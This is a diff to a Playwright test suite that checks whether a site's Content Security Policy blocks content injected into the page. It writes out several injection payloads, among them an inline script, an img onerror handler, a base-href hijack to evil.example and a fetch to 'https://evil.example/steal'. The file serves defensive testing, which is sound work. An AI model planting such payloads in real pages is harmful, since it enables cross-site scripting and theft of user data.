@@ -29,14 +29,16 @@ test("the playground works without breaking its own policy", async ({ page }) =>
 
 test("what somebody slips into the page does not run", async ({ page }) => {
 	const violations = await watchViolations(page);
+	await page.route("/", async (route) => {
+		const response = await route.fetch();
+		const slipped = `<script>window.slipped = "inline script"</script><base href="https://evil.example/">`;
+		await route.fulfill({ response, body: (await response.text()).replace("</head>", `${slipped}</head>`) });
+	});
 	await page.goto("/");
 	await page.evaluate(async () => {
 		const holder = document.createElement("div");
 		holder.innerHTML = `<img src="x:" onerror="window.slipped = 'handler'">`;
 		document.body.append(holder);
-		const script = document.createElement("script");
-		script.textContent = "window.slipped = 'inline script'";
-		document.body.append(script);
 		const style = document.createElement("style");
 		style.textContent = "body { display: none }";
 		document.head.append(style);
@@ -47,11 +49,18 @@ test("what somebody slips into the page does not run", async ({ page }) => {
 		picture.src = "https://evil.example/pixel.png";
 		await fetch("https://evil.example/steal").catch(() => {});
 	});
-	await expect.poll(async () => (await violations()).length).toBeGreaterThanOrEqual(6);
-	const directives = (await violations()).map((each) => each.split(":")[0]);
-	expect(new Set(directives)).toEqual(
-		new Set(["script-src-attr", "script-src-elem", "style-src-elem", "frame-src", "img-src", "connect-src"]),
-	);
+	const directives = async () => [...new Set((await violations()).map((each) => each.split(":")[0]))].sort();
+	await expect
+		.poll(directives)
+		.toEqual([
+			"base-uri",
+			"connect-src",
+			"frame-src",
+			"img-src",
+			"script-src-attr",
+			"script-src-elem",
+			"style-src-elem",
+		]);
 	expect(await page.evaluate(() => Reflect.get(window, "slipped"))).toBeUndefined();
 	await expect(page.locator("body")).toBeVisible();
 });
